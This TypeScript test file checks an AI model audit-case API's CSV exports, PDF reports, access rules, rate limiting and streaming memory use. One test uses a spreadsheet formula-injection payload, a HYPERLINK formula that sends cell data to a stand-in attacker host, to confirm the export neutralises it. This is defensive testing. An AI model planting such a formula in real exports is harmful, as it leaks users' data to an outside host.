import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { afterAll, describe, expect, it } from '@jest/globals';
import { Client } from 'pg';
import { COMPONENTS } from '@app/policy';
import { adminSeeder, waitFor, type OkBody, type ResponseOf } from '@app/testing';
import { expectOk } from './support/case-driver.js';
import { csvObjects, csvText } from './support/csv.js';
import { pdfPages } from './support/pdf-text.js';
import { freePort, stopProcess } from './support/processes.js';
import { useSuite } from './support/suite.js';

const API_ENTRY = 'dist/apps/api/src/main.js';
const BULK = 10_000;
/**
 * The child api's old-space cap: the api itself uses about half of it, and holding the whole
 * seeded table at once needs more than the other half (docs/benchmarks.md).
 */
const HEAP_CAP_MIB = 96;

type CaseListPage = OkBody<'/v1/cases'> | OkBody<'/v1/queues/{name}'>;
type CaseListItem = CaseListPage['items'][number];

/** The JSON list item as the CSV writes it. */
const asCsvRow = (item: CaseListItem) => ({
  id: item.id,
  state: item.state,
  version: String(item.version),
  revision: String(item.revision),
  tier: item.tier ?? '',
  modelId: item.model.id,
  modelName: /^[=+\-@\t\r]/.test(item.model.name) ? `'${item.model.name}` : item.model.name,
  modelVersion: item.model.version,
  checkpointSha256: item.model.checkpointSha256 ?? '',
  baseModels: JSON.stringify(item.model.baseModels ?? []),
  developerOrganisationId: item.developerOrganisationId,
  createdAt: item.createdAt,
  stateEnteredAt: item.stateEnteredAt,
  nextDeadline: item.nextDeadline ?? '',
});

/** Every item of a JSON case list or queue, following nextCursor; `read` gets the query (limit and cursor) to append. */
const allItems = async (read: (query: string) => Promise<ResponseOf<'/v1/cases', 'get'> | ResponseOf<'/v1/queues/{name}', 'get'>>) => {
  const items: CaseListItem[] = [];
  let cursor: string | null = null;
  do {
    const query: string = `limit=200${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`;
    const page = expectOk(await read(query), query);
    items.push(...page.items);
    cursor = page.nextCursor;
  } while (cursor);
  return items;
};

const rssKiB = (pid: number): number => Number(/VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1]);

describe('exports: CSV lists and the PDF model report', () => {
  const suite = useSuite();

  const csv = (token: string, path: string, baseUrl = suite.stack.baseUrl) =>
    fetch(`${baseUrl}${path}`, { headers: { authorization: `Bearer ${token}`, accept: 'text/csv' } });

  it('answers a case list as CSV with the same rows as the JSON list, for the same filters and caller', async () => {
    const { developer, otherDeveloper, regulator } = suite.world;
    const mine = [await suite.driver.create(), await suite.driver.create()];
    const theirs = await suite.driver.create(otherDeveloper);

    const response = await csv(developer.token, '/v1/cases?state=draft');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="cases-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get('vary')).toMatch(/Accept/);
    const rows = csvObjects(await csvText(response));
    const json = await allItems((q) => developer.http.get(`/v1/cases?state=draft&${q}`));
    expect(rows).toEqual(json.map(asCsvRow));
    expect(rows.map((r) => r.id)).toEqual(expect.arrayContaining(mine));
    expect(rows.map((r) => r.id)).not.toContain(theirs);

    // Another organisation's developer sees none of the other's cases, even when filtering for them.
    const foreign = csvObjects(await csvText(await csv(otherDeveloper.token, `/v1/cases?developerOrganisationId=${developer.organisationId}`)));
    expect(foreign).toEqual([]);
    const own = csvObjects(await csvText(await csv(otherDeveloper.token, '/v1/cases')));
    expect(own.map((r) => r.id)).toContain(theirs);
    expect(own.every((r) => r.developerOrganisationId === otherDeveloper.organisationId)).toBe(true);

    // The default Accept stays JSON; a bad cursor is still a problem+json 400 before any CSV is sent.
    const jsonPage = await regulator.http.get('/v1/cases?limit=1');
    expect(jsonPage.headers.get('content-type')).toMatch(/^application\/json/);
    expect(expectOk(jsonPage).items).toHaveLength(1);
    const bad = await csv(regulator.token, '/v1/cases?cursor=not-a-cursor');
    expect(bad.status).toBe(400);
    expect(bad.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  });

  it('starts a CSV at the cursor and does not cap it at limit', async () => {
    const { developerColleague } = suite.world;
    for (let i = 0; i < 3; i++) await suite.driver.create(developerColleague);
    const first = expectOk(await developerColleague.http.get('/v1/cases?limit=1'));
    if (first.nextCursor === null) throw new Error('three cases, limit=1: no next cursor');
    const everything = csvObjects(await csvText(await csv(developerColleague.token, '/v1/cases?limit=1')));
    expect(everything.length).toBeGreaterThanOrEqual(3);
    const rest = csvObjects(await csvText(await csv(developerColleague.token, `/v1/cases?limit=1&cursor=${encodeURIComponent(first.nextCursor)}`)));
    expect(rest).toEqual(everything.slice(1));
  });

  it('neutralises formulas in cells: a model named =HYPERLINK(...) is written as text', async () => {
    const { developer, regulator } = suite.world;
    const name = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
    const created = expectOk(await developer.http.post('/v1/cases', { model: { name, version: '+1' } }));
    const text = await csvText(await csv(regulator.token, `/v1/cases?developerOrganisationId=${developer.organisationId}&state=draft`));
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
    const row = csvObjects(text).find((r) => r.id === created.id)!;
    expect(row.modelName).toBe(`'${name}`);
    expect(row.modelVersion).toBe("'+1");
  });

  it('answers a queue as CSV for regulators only, with the JSON queue\'s rows', async () => {
    const { regulator, developer } = suite.world;
    await suite.driver.inAudit();
    const response = await csv(regulator.token, '/v1/queues/in_audit');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-disposition')).toMatch(/filename="queue-in_audit-/);
    const rows = csvObjects(await csvText(response));
    expect(rows.length).toBeGreaterThan(0);
    expect(rows).toEqual((await allItems((q) => regulator.http.get(`/v1/queues/in_audit?${q}`))).map(asCsvRow));
    expect((await csv(developer.token, '/v1/queues/in_audit')).status).toBe(403);
    expect((await csv(regulator.token, '/v1/queues/nope')).status).toBe(404);
  });

  it('renders the PDF model report for the case\'s readers, with the model, every component and the history head; 404 for anyone else', async () => {
    const { developer, otherDeveloper, auditorA, auditorB, regulator } = suite.world;
    const caseId = await suite.driver.inAudit([auditorA]);
    await suite.driver.fireOk(auditorA, caseId, 'ADD_FINDING', { severity: 'minor', title: 'Thin eval notes', detail: 'say more about cyber' });
    const view = expectOk(await regulator.http.get(`/v1/cases/${caseId}`));
    const verify = expectOk(await regulator.http.get(`/v1/cases/${caseId}/history/verify`));

    const response = await fetch(`${suite.stack.baseUrl}/v1/cases/${caseId}/report.pdf`, { headers: { authorization: `Bearer ${developer.token}` } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/pdf');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename=".+-report\.pdf"$/);
    const text = (await pdfPages(new Uint8Array(await response.arrayBuffer()))).join('\n');
    if (view.model === null) throw new Error('the case has no model version');
    expect(text).toContain(`${view.model.name} ${view.model.version}`);
    expect(text).toContain(caseId);
    for (const component of COMPONENTS) expect(text).toContain(component);
    const evaluations = view.assessment.evaluations ?? [];
    expect(evaluations.length).toBeGreaterThan(0);
    for (const evaluation of evaluations) expect(text).toContain(evaluation.domain);
    expect(text).toContain('Thin eval notes');
    expect(text).toContain('Acme AI');
    expect(text).toContain(verify.headHash);
    expect(text).toContain(`/v1/cases/${caseId}/history/verify`);

    for (const reader of [auditorA, regulator])
      expect((await fetch(`${suite.stack.baseUrl}/v1/cases/${caseId}/report.pdf`, { headers: { authorization: `Bearer ${reader.token}` } })).status).toBe(200);
    for (const outsider of [otherDeveloper, auditorB]) {
      const refused = await fetch(`${suite.stack.baseUrl}/v1/cases/${caseId}/report.pdf`, { headers: { authorization: `Bearer ${outsider.token}` } });
      expect(refused.status).toBe(404);
      expect(refused.headers.get('content-type')).toMatch(/^application\/problem\+json/);
    }
    expect((await fetch(`${suite.stack.baseUrl}/v1/cases/${caseId}/report.pdf`)).status).toBe(401);
  });

  it('answers a burst of reports from one caller with the PDF or 429 too-many-requests and Retry-After, never 5xx', async () => {
    const { regulator, auditorA } = suite.world;
    const caseId = await suite.driver.inAudit([auditorA]);
    const answers = await Promise.all(
      Array.from({ length: 40 }, async () => {
        const response = await fetch(`${suite.stack.baseUrl}/v1/cases/${caseId}/report.pdf`, { headers: { authorization: `Bearer ${regulator.token}` } });
        return { status: response.status, type: response.headers.get('content-type'), retryAfter: response.headers.get('retry-after'), body: await response.text() };
      }),
    );
    const refused = answers.filter((a) => a.status !== 200);
    // Eight of one caller's reports are taken at once; the rest of a burst that arrives together is refused.
    expect(refused.length).toBeGreaterThan(0);
    expect(answers.length - refused.length).toBeGreaterThanOrEqual(8);
    for (const answer of refused) {
      expect(answer).toMatchObject({ status: 429, retryAfter: '2' });
      expect(answer.type).toMatch(/^application\/problem\+json/);
      expect(JSON.parse(answer.body)).toMatchObject({ type: '/problems/too-many-requests', status: 429 });
    }
    // Another caller is not held back by the first one's burst.
    expect((await fetch(`${suite.stack.baseUrl}/v1/cases/${caseId}/report.pdf`, { headers: { authorization: `Bearer ${auditorA.token}` } })).status).toBe(200);
  });

  describe(`${BULK} cases`, () => {
    let api: ChildProcess | null = null;
    afterAll(async () => {
      if (api) await stopProcess(api);
    });

    /** Seeds BULK draft cases for one organisation in one multi-row INSERT, cloning a real case's pinned columns. */
    const seed = async (template: string) => {
      const db = new Client({ connectionString: suite.stack.config.DATABASE_URL });
      await db.connect();
      try {
        await db.query(
          `WITH t AS (SELECT * FROM cases WHERE id = $1),
                -- About 2.5 KiB of lineage per row, so that holding the whole table would show in the api's memory.
                lineage AS (SELECT jsonb_agg(jsonb_build_object('external', jsonb_build_object(
                              'name', 'ancestor-' || i || '-' || repeat('x', 200), 'origin', 'https://huggingface.co/' || repeat('y', 60)))) AS refs
                              FROM generate_series(1, 8) i),
                mv AS (INSERT INTO model_versions (developer_organisation_id, name, version, base_models)
                         SELECT t.developer_organisation_id, 'bulk-' || lpad(g::text, 5, '0'), '1.0', lineage.refs
                           FROM t, lineage, generate_series(1, $2::int) g
                         RETURNING id, developer_organisation_id)
           INSERT INTO cases (model_version_id, developer_organisation_id, state, workflow_version, policy_pack_id, policy_pack_version,
                              context, assessment, created_by, head_hash, created_at, state_entered_at)
           SELECT mv.id, mv.developer_organisation_id, t.state, t.workflow_version, t.policy_pack_id, t.policy_pack_version,
                  t.context, t.assessment, t.created_by, t.head_hash, now() - interval '1 day', now() - interval '1 day'
             FROM mv, t`,
          [template, BULK],
        );
      } finally {
        await db.end();
      }
    };

    it('streams a CSV of them with flat api memory (the api in its own process, RSS from /proc)', async () => {
      if (!existsSync(API_ENTRY)) throw new Error(`${API_ENTRY} is missing: run through npm test, which builds first`);
      const { regulator } = suite.world;
      // An organisation of its own, so no other test's list holds these rows.
      const { organisation, member } = adminSeeder(suite.world.admin);
      const bulkOrg = await member(await organisation('Bulk Models', 'developer'), 'developer', 'bulk');
      await seed(await suite.driver.create(bulkOrg));

      const port = await freePort();
      const config = suite.stack.config;
      api = spawn(process.execPath, [`--max-old-space-size=${HEAP_CAP_MIB}`, API_ENTRY], {
        env: { PATH: process.env.PATH, DATABASE_URL: config.DATABASE_URL, REDIS_URL: config.REDIS_URL, REDIS_PREFIX: config.REDIS_PREFIX, PORT: String(port), LOG_LEVEL: 'warn' },
        stdio: ['ignore', 'ignore', 'inherit'],
      });
      const baseUrl = `http://127.0.0.1:${port}`;
      await waitFor(() => fetch(`${baseUrl}/health`).then((r) => r.status, () => 0), (status) => status === 200, { timeoutMs: 30_000, what: 'the api' });
      const path = `/v1/cases?developerOrganisationId=${bulkOrg.organisationId}`;
      // Warm up (JIT, connection pool, Nest's first-request work), then take the baseline.
      await csvText(await csv(regulator.token, `${path}&state=in_audit`, baseUrl));
      const baseline = rssKiB(api.pid!);

      let peak = baseline;
      const sampler = setInterval(() => (peak = Math.max(peak, rssKiB(api!.pid!))), 20);
      const started = Date.now();
      const response = await csv(regulator.token, path, baseUrl);
      // Read slowly at first, so the server has to hold back (backpressure), then drain.
      const reader = response.body!.getReader();
      const decoder = new TextDecoder('utf-8', { ignoreBOM: true });
      let text = '';
      let chunks = 0;
      for (;;) {
        const { done, value } = await reader.read();
        if (done) break;
        text += decoder.decode(value, { stream: true });
        if (++chunks < 20) await new Promise((resolve) => setTimeout(resolve, 10));
      }
      clearInterval(sampler);
      const ms = Date.now() - started;
      const growthMiB = (peak - baseline) / 1024;
      console.log(`exports bench: ${BULK + 1} rows, ${(text.length / 1024 / 1024).toFixed(1)} MiB of CSV in ${ms} ms; api RSS ${(baseline / 1024).toFixed(0)} MiB before, peak growth ${growthMiB.toFixed(1)} MiB`);

      const rows = csvObjects(text);
      expect(rows).toHaveLength(BULK + 1);
      expect(new Set(rows.map((r) => r.id)).size).toBe(BULK + 1);
      // Still running: an api that held the whole table (pg rows, list items, CSV text) would have run out of its capped heap.
      expect(api.exitCode).toBeNull();
      // Pages of 200 rows are about 0.5 MiB; what grows beyond that is garbage V8 has not yet collected, bounded by the cap.
      expect(growthMiB).toBeLessThan(64);
      // The JSON list agrees with the CSV for the same filters and caller.
      expect(rows.map((r) => r.id)).toEqual((await allItems((q) => regulator.http.get(`/v1/cases?developerOrganisationId=${bulkOrg.organisationId}&${q}`))).map((c) => c.id));
    }, 180_000);

  });
});
